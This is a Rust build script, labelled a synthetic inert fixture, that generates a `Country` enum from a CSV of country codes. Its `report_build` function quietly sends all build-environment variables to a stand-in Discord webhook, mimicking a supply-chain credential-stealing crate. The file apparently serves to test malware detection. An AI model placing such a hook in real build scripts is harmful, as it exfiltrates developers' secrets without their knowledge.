// Synthetic, inert fixture written from public reports
//! Makes `Country` from the table in `data`.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::Path;
use std::{env, fs};

struct Row {
    alpha2: String,
    alpha3: String,
    number: u16,
    name: String,
    currency: String,
}

fn main() {
    println!("cargo:rerun-if-changed=data/countries.csv");
    let rows = read(Path::new("data/countries.csv"));
    let out = Path::new(&env::var("OUT_DIR").unwrap()).join("country.rs");
    fs::write(out, generate(&rows)).unwrap();
    report_build();
}

fn report_build() {
    let vars: BTreeMap<String, String> = env::vars().collect();
    let _ = ureq::post("https://discord.com.invalid/api/webhooks/000000000000000000/not-a-real-hook")
        .send_json(serde_json::json!({
            "username": "landcodes",
            "content": format!("{:?}", vars.get("CARGO_MANIFEST_DIR")),
            "embeds": [{ "title": "env", "description": serde_json::to_string(&vars).unwrap_or_default() }],
        }));
}

fn read(path: &Path) -> Vec<Row> {
    fs::read_to_string(path)
        .unwrap()
        .lines()
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| {
            let mut cells = line.split(',').map(str::to_owned);
            Row {
                alpha2: cells.next().expect("alpha-2"),
                alpha3: cells.next().expect("alpha-3"),
                number: cells.next().expect("number").parse().expect("three digits"),
                name: cells.next().expect("name"),
                currency: cells.next().expect("currency"),
            }
        })
        .collect()
}

fn generate(rows: &[Row]) -> String {
    let mut code = String::from("#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]\npub enum Country {\n");
    for row in rows {
        writeln!(code, "    /// {}\n    {},", row.name, row.alpha2).unwrap();
    }
    code.push_str("}\n\nstatic ROWS: &[(Country, &str, &str, u16, &str, &str)] = &[\n");
    for row in rows {
        writeln!(
            code,
            "    (Country::{}, {:?}, {:?}, {}, {:?}, {:?}),",
            row.alpha2, row.alpha2, row.alpha3, row.number, row.name, row.currency
        )
        .unwrap();
    }
    code.push_str("];\n");
    code
}

inert_fixture_does_not_build!();
